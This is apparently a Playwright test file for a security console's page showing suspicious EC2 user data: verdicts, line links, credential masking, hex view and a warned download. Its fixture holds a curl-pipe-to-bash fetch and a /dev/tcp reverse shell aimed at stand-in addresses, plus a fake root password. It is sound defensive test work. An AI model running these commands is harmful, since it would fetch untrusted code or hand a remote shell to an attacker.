// One content on its own page: both verdicts, parts, marked and coloured lines, bytes, credentials and the file; and the alert's panel.
import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { gzipSync } from 'node:zlib';
import { expectAccessible } from './support/accessible';
import { attachFiles, bringAttack } from './support/attack';
import { expect, test } from './support/console';
import { expectFits } from './support/fit';

const ACCOUNT = '333322221111';
const PASSWORD = 'Tr0ub4dor-and-3-horses';
const MESSAGE = Buffer.from(
  [
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="//"',
    '',
    '--//',
    'Content-Type: text/cloud-config',
    'Content-Disposition: attachment; filename="cloud-config.txt"',
    '',
    '#cloud-config',
    'cloud_final_modules:',
    ' - [scripts-user, always]',
    '--//',
    'Content-Type: text/x-shellscript',
    'Content-Disposition: attachment; filename="userdata.txt"',
    '',
    '#!/bin/bash',
    'if true; then echo "hello"; fi # colours',
    `mysql -u root --password=${PASSWORD} -e 'select 1'`,
    'curl -fsSL http://203.0.113.99/agent.sh | bash',
    ...Array.from({ length: 700 }, (_, index) => `echo step ${index}`),
    'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
    '--//--',
    '',
  ].join('\n'),
);
const OLD = Buffer.from('#!/bin/bash\nyum -y update\n');
const BINARY = Buffer.from(Array.from({ length: 3000 }, (_, index) => (index * 7) % 256));
const MANY = Buffer.from(
  `MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=B\n\n${Array.from(
    { length: 200 },
    (_, index) => `--B\nContent-Type: text/x-shellscript\n\n#!/bin/bash\necho ${index}\n`,
  ).join('')}--B--\n`,
);
const LARGE = gzipSync(
  `#!/bin/bash\n${Array.from({ length: 150_000 }, (_, index) => `echo "line ${index} of a very long script, it goes on and on"`).join('\n')}\n`,
);
const shaOf = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
const own = `/payloads/${shaOf(MESSAGE)}`;
let alert = '';

test.beforeAll(async ({ waymark, browser }, info) => {
  test.setTimeout(300_000);
  alert = await bringAttack(waymark, info, ACCOUNT);
  await attachFiles(waymark, browser, alert, [OLD, BINARY, MANY, LARGE, MESSAGE]);
});

/** Lines are all alike, and hundreds of them take axe minutes: the first forty of each text stand for the others. */
const REPEATED = '[role="region"] > div > div:nth-child(n + 41)';

test('the alert shows the newest content in full and leads to its page, where both verdicts come first', async ({
  page,
}) => {
  await page.goto(alert);
  const panel = page.locator('#payload');
  await expect(panel.getByText('Runs at the next start: yes, as root, at every boot')).toBeVisible();
  await expect(panel.getByText('Runs on a new instance: yes')).toBeVisible();
  await expect(panel.getByRole('heading', { name: 'Attached before: 4' })).toBeVisible();
  await panel.getByRole('link', { name: 'part 2, line 4' }).first().click();
  await expect(panel.getByText('| bash').last()).toBeInViewport();
  await panel.getByRole('link', { name: 'part 2, line 705' }).first().click();
  await expect(page).toHaveURL(`${own}?part=2&line=705`);
  await expect(page.locator('[aria-current="true"][id$="L705"]')).toBeInViewport();
  await page.goto(alert);
  await panel.getByRole('link', { name: 'Open in full' }).click();
  await expect(page).toHaveURL(own);
  await expect(page.getByRole('heading', { name: /^Runs at the next start: yes/ })).toBeVisible();
  await expect(page.getByRole('link', { name: /^cloud-init: / })).toHaveAttribute(
    'href',
    /cloudinit\.readthedocs\.io/,
  );
});

test('a part and a line are chosen by mouse and keyboard, and a link shows the same to others', async ({
  page,
}) => {
  await page.goto(own, { waitUntil: 'networkidle' });
  const parts = page.getByRole('group', { name: 'Parts' });
  await parts.getByRole('link').first().focus();
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Enter');
  await expect(page).toHaveURL(`${own}?part=2`);
  const text = page.getByRole('region', { name: 'Text of part 2' });
  await expect(text.getByText('echo step 0', { exact: true })).toBeVisible();
  await text.getByRole('link', { name: 'Line 3', exact: true }).click();
  await expect(page).toHaveURL(`${own}?part=2&line=3`);
  await expect(text.locator('[aria-current="true"]')).toContainText('mysql');
  await page.reload();
  await expect(text.locator('[aria-current="true"]')).toContainText('mysql');
  await page.getByRole('navigation', { name: 'Findings along the text' }).getByRole('link').last().click();
  await expect(page).toHaveURL(`${own}?part=2&line=705`);
  await expect(text.locator('[aria-current="true"]')).toContainText('/dev/tcp');
  await expect(page.getByText('Lines 501–705 of 705')).toBeVisible();
  await page.getByRole('link', { name: 'Lines before' }).click();
  await expect(page.getByText('Lines 1–500 of 705')).toBeVisible();
});

test('the text has colours without any HTML of others, marks say what was found, and lines wrap on request', async ({
  page,
}) => {
  await page.goto(`${own}?part=2`, { waitUntil: 'networkidle' });
  const text = page.getByRole('region', { name: 'Text of part 2' });
  const colour = (words: string) =>
    text
      .getByText(words, { exact: true })
      .first()
      .evaluate((element) => getComputedStyle(element).color);
  const [comment, string] = [await colour('# colours'), await colour('"hello"')];
  expect(comment).not.toBe(string);
  expect(await text.locator('[style]').count()).toBe(0);
  await text.getByRole('link', { name: /^high: .*pipe-to-shell/ }).hover();
  await expect(page.getByRole('tooltip')).toContainText('pipe-to-shell');
  const wrap = page.getByRole('button', { name: 'Wrap lines' });
  await expect(wrap).toHaveAttribute('aria-pressed', 'true');
  await wrap.click();
  await expect(wrap).toHaveAttribute('aria-pressed', 'false');
});

test('a credential is in no answer until it is asked for, and hidden again on request', async ({ page }) => {
  const heard: string[] = [];
  page.on('response', (response) => {
    if (
      response.request().method() === 'GET' &&
      /html|x-component/.test(response.headers()['content-type'] ?? '')
    )
      void response.text().then(
        (text) => heard.push(text),
        () => undefined,
      );
  });
  await page.goto(`${own}?part=2`, { waitUntil: 'networkidle' });
  const credentials = page.locator('#credentials');
  await credentials
    .getByRole('button', { name: /^Reveal: / })
    .first()
    .click();
  await expect(credentials.getByText(PASSWORD)).toBeVisible();
  await expect(credentials.getByText('written to the audit trail')).toBeVisible();
  expect(page.url()).not.toContain('horses');
  await credentials.getByRole('button', { name: /^Hide: / }).click();
  await expect(credentials.getByText(PASSWORD)).toHaveCount(0);
  for (const address of [`${own}?view=hex`, alert]) await page.goto(address, { waitUntil: 'networkidle' });
  expect(heard.length).toBeGreaterThan(1);
  expect(heard.filter((text) => text.includes('horses') || text.includes('68 6f 72 73 65 73'))).toEqual([]);
});

test('a credential that was revealed hides itself after a minute', async ({ page }) => {
  await page.clock.install();
  await page.goto(`${own}?part=2`, { waitUntil: 'networkidle' });
  const credentials = page.locator('#credentials');
  await credentials
    .getByRole('button', { name: /^Reveal: / })
    .first()
    .click();
  await expect(credentials.getByText(PASSWORD)).toBeVisible();
  await page.clock.fastForward(30_000);
  await expect(credentials.getByText(PASSWORD)).toBeVisible();
  await page.clock.fastForward(30_000);
  await expect(credentials.getByText(PASSWORD)).toHaveCount(0);
  await expect(credentials.getByRole('button', { name: /^Reveal: / }).first()).toBeVisible();
  await expect(credentials.getByText('written to the audit trail')).toHaveCount(0);
});

test('the bytes are paged in hex, and the file leaves after a warning', async ({ page }) => {
  await page.goto(own, { waitUntil: 'networkidle' });
  await page.getByRole('link', { name: 'Hex of everything' }).click();
  const bytes = page.getByRole('region', { name: 'Bytes in hex' });
  await expect(bytes.getByRole('row').nth(1)).toContainText(
    '4d 49 4d 45 2d 56 65 72  73 69 6f 6e 3a 20 31 2e',
  );
  await expect(page.getByText('bytes of credentials are written over')).toBeVisible();
  await page.getByRole('link', { name: 'Next bytes' }).click();
  await expect(page).toHaveURL(/view=hex&offset=1024/);
  await expect(bytes.getByRole('rowheader').first()).toHaveText('00000400');
  await page.getByRole('button', { name: 'Download…' }).click();
  const dialog = page.getByRole('dialog');
  await expect(dialog).toContainText('Treat it as hostile');
  await expect(dialog).toContainText('credential');
  const download = page.waitForEvent('download');
  await dialog.getByRole('link', { name: 'Download hostile content' }).click();
  const file = await download;
  expect(file.suggestedFilename()).toBe(`user-data-${shaOf(MESSAGE).slice(0, 12)}.bin`);
  expect(shaOf(await readFile(await file.path()))).toBe(shaOf(MESSAGE));
});

test('what is binary shows its bytes', async ({ page }) => {
  await page.goto(`/payloads/${shaOf(BINARY)}`);
  await expect(page.getByText('This part is binary')).toBeVisible();
  await expect(page.getByRole('region', { name: 'Bytes in hex' }).getByRole('row').nth(1)).toContainText(
    '00 07 0e 15 1c 23 2a 31',
  );
});

test.describe('an answer of 404 shows in the browser’s console', () => {
  test.use({ allowedErrors: [/status of 404/] });

  test('what is not kept says so, and leads on', async ({ page }) => {
    for (const name of ['0'.repeat(64), 'not-a-hash', '<script>alert(1)<%2Fscript>']) {
      const answer = await page.goto(`/payloads/${name}`);
      expect(answer?.status()).toBe(404);
      await expect(page.getByRole('heading', { name: 'This user data is not kept here' })).toBeVisible();
    }
    await expect(page.getByRole('link', { name: 'Show what is kept' })).toHaveAttribute('href', '/payloads');
  });
});

test('the palette leads from a pasted SHA-256 to its page, and from its beginning to a search', async ({
  page,
}) => {
  await page.goto('/alerts', { waitUntil: 'networkidle' });
  const ask = page.getByPlaceholder('Go somewhere or do something');
  await page.keyboard.press('Control+k');
  await ask.fill(shaOf(MESSAGE).toUpperCase());
  await page.getByRole('option', { name: `Go to user data ${shaOf(MESSAGE).slice(0, 12)}` }).click();
  await expect(page).toHaveURL(own);
  await expect(page.getByRole('heading', { name: /^Runs at the next start: yes/ })).toBeVisible();

  await page.keyboard.press('Control+k');
  await ask.fill(shaOf(OLD).slice(0, 12));
  await page.getByRole('option', { name: `Search user data for ${shaOf(OLD).slice(0, 12)}` }).click();
  await expect(page).toHaveURL(`/payloads?q=${shaOf(OLD).slice(0, 12)}`);
  await expect(page.getByRole('row').filter({ hasText: shaOf(OLD).slice(0, 12) })).toBeVisible();
});

test('ten megabytes and two hundred parts stay small', async ({ page }) => {
  for (const [what, buffer, most] of [
    ['ten megabytes', LARGE, 1_500_000],
    ['two hundred parts', MANY, 1_500_000],
  ] as const) {
    const address = `/payloads/${shaOf(buffer)}`;
    const body = await (await page.request.get(address)).body();
    expect(body.length, what).toBeLessThan(most);
  }
  await page.goto(`/payloads/${shaOf(MANY)}`);
  await expect(page.getByRole('group', { name: 'Parts' }).getByRole('listitem')).toHaveCount(200);
});

for (const colorScheme of ['light', 'dark'] as const) {
  test(`accessible in ${colorScheme}`, async ({ page }) => {
    test.setTimeout(240_000);
    await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
    for (const address of [`${own}?part=2&line=4`, `${own}?view=hex`, `/payloads/${shaOf(BINARY)}`, alert]) {
      await page.goto(address, { waitUntil: 'networkidle' });
      await expectAccessible(page, REPEATED);
    }
  });
}

test('fits a phone', async ({ page }) => {
  test.setTimeout(240_000);
  await page.setViewportSize({ width: 390, height: 844 });
  for (const address of [`${own}?part=2&line=4`, `${own}?view=hex`, `/payloads/${shaOf(MANY)}`, alert]) {
    await page.goto(address, { waitUntil: 'networkidle' });
    await expectFits(page);
    await expectAccessible(page, REPEATED);
  }
});
